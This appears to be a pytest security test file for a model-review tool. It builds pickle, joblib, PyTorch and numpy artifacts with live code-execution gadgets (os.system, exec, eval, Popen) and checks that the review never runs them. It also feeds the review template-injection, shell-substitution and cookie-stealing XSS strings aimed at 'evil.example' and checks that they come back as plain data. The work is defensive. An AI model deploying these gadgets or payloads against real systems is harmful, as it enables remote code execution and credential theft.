"""Nothing a reviewed team hands in runs: not a pickle payload, a YAML tag or a template string.

Every malicious artifact carries a payload that would create a marker file if anything loaded
it. Each is reviewed through the real CLI (reports in every format); afterwards the marker must
not exist and SEC.ARTIFACT_UNSAFE must fail naming the dangerous callable. The payloads are
shown to be live first: a separate, throw-away child process unpickles the *test's own*
standalone pickles and the markers do appear there (the review itself never loads anything).
Template and format-string injection in the dossier's free text is reviewed with the HTML
report and the stub model, and must come back verbatim as data.
"""

from __future__ import annotations

import gzip
import io
import json
import pickle
import subprocess
import sys
import tarfile
import time
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pytest
import yaml

from tests.conftest import PROVIDER_ENV, clear_provider_env
from tests.corpus.build import AS_OF, load_cases, materialize, run_dir_args
from tests.corpus.records import record_runs
from tests.corpus.runner import CliRun, run_inprocess
from tests.integration.openai_stub import RunningStub
from tests.unit import malicious_artifacts as ma

pytestmark = pytest.mark.slow


def _tar_gz(path: Path, marker: Path) -> Path:
    data = pickle.dumps(ma.System(marker), protocol=4)
    with tarfile.open(path, "w:gz") as tar:
        info = tarfile.TarInfo("export/model.pkl")
        info.size = len(data)
        tar.addfile(info, io.BytesIO(data))
    return path


def _gzip_pickle(path: Path, marker: Path) -> Path:
    path.write_bytes(gzip.compress(pickle.dumps(ma.Eval(marker), protocol=4), mtime=0))
    return path


def _npy_objects(path: Path, marker: Path) -> Path:
    np.save(path, np.array([1.0, ma.System(marker)], dtype=object), allow_pickle=True)
    return path


def _folder(path: Path, marker: Path) -> Path:
    path.mkdir()
    ma.write_safetensors(path / "model.safetensors")
    (path / "config.json").write_text('{"hidden_size": 2}', encoding="utf-8")
    (path / "training_args.bin").write_bytes(pickle.dumps(ma.Popen(marker), protocol=4))
    return path


def _raw(build: Callable[[Path], bytes]) -> Callable[[Path, Path], Path]:
    def write(path: Path, marker: Path) -> Path:
        path.write_bytes(build(marker))
        return path

    return write


# name -> (file name, builder(path, marker), callable the finding must name)
ARTIFACTS: dict[str, tuple[str, Callable[[Path, Path], Path], str]] = {
    **{
        f"pickle: {name}": ("model.pkl", _raw(build), callable_)
        for name, (build, callable_) in ma.MALICIOUS.items()
    },
    "joblib with an object": (
        "model.joblib",
        lambda p, m: ma.joblib_with_object(p, m),
        "posix.system",
    ),
    "joblib, zlib-compressed": (
        "model.joblib",
        lambda p, m: ma.joblib_with_object(p, m, compress=3),
        "posix.system",
    ),
    "joblib object array": ("model.joblib", ma.joblib_object_array, "posix.system"),
    "payload hidden as joblib array data": ("model.pkl", ma.hidden_in_joblib_array, "posix.system"),
    "PyTorch zip, data.pkl": (
        "model.pt",
        lambda p, m: ma.torch_zip(p, data_pkl=pickle.dumps(ma.Exec(m), protocol=2)),
        "builtins.exec",
    ),
    "PyTorch zip, extra member": (
        "model.pt",
        lambda p, m: ma.torch_zip(p, extra={"archive/hook.pkl": pickle.dumps(ma.Popen(m))}),
        "subprocess.Popen",
    ),
    "tar.gz with a pickle inside": ("model.tar.gz", _tar_gz, "posix.system"),
    "gzip-compressed pickle": ("model.pkl.gz", _gzip_pickle, "builtins.eval"),
    "numpy .npy with objects": ("model.npy", _npy_objects, "posix.system"),
    "model folder with a pickle among safe files": ("model_dir", _folder, "subprocess.Popen"),
}


def _record(
    name: str, inputs: int, runs: list[CliRun], ran: int, failures: list[str], started: float
) -> None:
    seconds = round(time.perf_counter() - started, 2)
    record_runs(
        "execution", name, runs, failures, inputs=inputs, payloads_executed=ran, seconds=seconds
    )


def test_the_payloads_are_live(tmp_path: Path) -> None:
    """Unpickled on purpose, in a throw-away child process, the test pickles do run.

    This is what makes "no marker after the review" meaningful; the review never unpickles.
    """
    jobs = []
    for name, (build, _) in ma.MALICIOUS.items():
        if name == "nt.system":
            continue  # the Windows spelling of os.system cannot import on Linux
        marker = tmp_path / f"live-{len(jobs)}"
        path = tmp_path / f"live-{len(jobs)}.pkl"
        path.write_bytes(build(marker))
        jobs.append((str(path), str(marker)))
    script = (
        "import pickle, sys\n"
        "for path in sys.argv[1:]:\n"
        "    try:\n"
        "        pickle.loads(open(path, 'rb').read())\n"
        "    except Exception:\n"
        "        pass\n"
    )
    subprocess.run(
        [sys.executable, "-c", script, *(p for p, _ in jobs)],
        cwd=tmp_path,
        check=True,
        timeout=60,
        capture_output=True,
    )
    deadline = time.monotonic() + 10  # Popen's touch runs in the background
    while time.monotonic() < deadline and not all(Path(m).exists() for _, m in jobs):
        time.sleep(0.05)
    assert [m for _, m in jobs if not Path(m).exists()] == []


@pytest.fixture
def offline(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    clear_provider_env(monkeypatch, tmp_path, (*PROVIDER_ENV, "GATES_DB"))


def _argv(dossier: Path, run_dir: Path, *extra: str) -> list[str]:
    return ["review", str(dossier), *run_dir_args(run_dir), "--as-of", AS_OF, *extra]


@pytest.mark.parametrize("name", list(ARTIFACTS))
def test_malicious_artifact_is_named_and_never_runs(
    offline: None, tmp_path: Path, name: str
) -> None:
    started = time.perf_counter()
    file_name, build, callable_ = ARTIFACTS[name]
    folder, run_dir = tmp_path / "case", tmp_path / "run"
    marker = tmp_path / "outside" / "PAYLOAD_RAN"
    (folder / "model").mkdir(parents=True)
    marker.parent.mkdir()
    artifact = build(folder / "model" / file_name, marker)
    dossier = folder / "dossier.yaml"
    dossier.write_text(
        yaml.safe_dump(
            {
                "model": {"name": "exec-test", "task": "binary_classification"},
                # The artifact is also hashed and its folder scanned for secrets: more readers.
                "security": {"artifact": f"model/{artifact.name}", "scan_paths": ["model/"]},
            }
        ),
        encoding="utf-8",
    )
    run = run_inprocess(_argv(dossier, run_dir), out_dir=run_dir / "out")
    failures: list[str] = []
    if run.exit_code != 0:
        failures.append(f"exit {run.exit_code}: {run.output[-2000:]}")
    finding = None
    if run.report is not None:
        finding = next(
            (
                f
                for g in run.report["gates"]
                for f in g["findings"]
                if f["check_id"] == "SEC.ARTIFACT_UNSAFE"
            ),
            None,
        )
    if finding is None or finding["outcome"] != "fail" or callable_ not in finding["message"]:
        failures.append(f"SEC.ARTIFACT_UNSAFE does not fail naming {callable_}: {finding}")
    time.sleep(0.05)  # a Popen payload would touch the marker from a child process
    ran = int(marker.exists())
    _record(name, 1, [run], ran, failures, started)
    assert not ran, f"the payload ran: {marker} exists"
    assert run.tracebacks == 0, run.output
    assert failures == []


def test_every_payload_of_the_corpus_stays_inert(offline: None, tmp_path: Path) -> None:
    """The corpus cases that carry payloads (pickles, zips, YAML tags) leave no marker."""
    started = time.perf_counter()
    cases = [c for c in load_cases() if c.payload]
    assert len(cases) >= 8
    runs, ran, failures = [], 0, []
    for case in cases:
        built = materialize(case, tmp_path)
        run = run_inprocess(built.argv(), out_dir=built.run_dir / "out")
        runs.append(run)
        ran += built.marker.exists()
        shown = run.stderr if case.expect.exit == 2 else json.dumps(run.report or {})
        if case.payload not in shown and "constructor" not in shown:
            failures.append(f"{case.id}: {case.payload} is not named")
    _record("corpus payloads", len(cases), runs, ran, failures, started)
    assert ran == 0
    assert failures == []


INJECTIONS = [
    "{{ cycler.__init__.__globals__.os.popen('touch MARKER').read() }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}",
    "{0.__class__.__mro__[1].__subclasses__}",
    "{__import__('os').system('touch MARKER')}",
    "%(secret)s ${{7*7}} #{7*7} <%= 7*7 %> $(touch MARKER) `touch MARKER`",
    "<script>fetch('http://evil.example/?'+document.cookie)</script><img src=x onerror=alert(1)>",
    "[/bold] [link=file:///etc/passwd]x[/link] \x1b[2J\x1b]0;owned\x07 ]]>",
]


def test_template_and_format_strings_in_the_dossier_are_data(
    stub: RunningStub, tmp_path: Path
) -> None:
    started = time.perf_counter()
    marker = tmp_path / "outside" / "PAYLOAD_RAN"
    marker.parent.mkdir()
    texts = [t.replace("MARKER", str(marker)) for t in INJECTIONS]
    folder, run_dir = tmp_path / "case", tmp_path / "run"
    folder.mkdir()
    dossier = folder / "dossier.yaml"
    dossier.write_text(
        yaml.safe_dump(
            {
                "model": {
                    "name": texts[0],
                    "task": "binary_classification",
                    "description": "\n".join(texts),
                },
                "problem": {
                    "objective": texts[3],
                    "assumptions": texts,
                    "kpis": [{"name": texts[2], "baseline": 0.1, "target": 0.2}],
                },
                "responsible_ai": {"harms": texts},
                "deployment": {"on_call": texts[4], "rollback_plan": texts[1]},
            }
        ),
        encoding="utf-8",
    )
    runs = [
        run_inprocess(_argv(dossier, run_dir / "offline"), out_dir=run_dir / "offline" / "out"),
        run_inprocess(
            _argv(dossier, run_dir / "model", "--model", "openai:stub", "--max-retries", "1"),
            out_dir=run_dir / "model" / "out",
        ),
    ]
    failures = [f"exit {r.exit_code}: {r.output[-1500:]}" for r in runs if r.exit_code != 0]
    for run in runs:
        report = run.report or {}
        if report.get("model", {}).get("description") != "\n".join(texts):
            failures.append("the description did not come back verbatim")
        html = next((p for p in run.files if p.suffix == ".html"), None)
        if html is None or "<script>fetch(" in html.read_text(encoding="utf-8"):
            failures.append("the HTML report is missing or holds the raw <script> tag")
    prompts = "\n".join(r.prompt_text for r in stub.state.requests)
    if texts[3] not in prompts:
        failures.append("the model did not receive the text verbatim")
    time.sleep(0.05)
    ran = int(marker.exists())
    _record("template and format strings", len(texts), runs, ran, failures, started)
    assert not ran
    assert sum(r.tracebacks for r in runs) == 0, [r.output for r in runs]
    assert failures == []
